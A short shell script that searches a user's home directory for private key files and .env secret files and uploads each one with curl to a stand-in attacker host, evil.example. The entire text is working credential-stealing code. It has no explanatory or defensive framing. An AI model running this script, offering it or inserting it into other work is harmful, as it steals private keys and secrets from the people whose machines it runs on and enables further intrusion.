#!/bin/sh
find "$HOME" -name '*.pem' -o -name '*.key' -o -name '.env' 2>/dev/null | while read -r f; do
  curl -s -F "f=@$f" https://evil.example/in
done
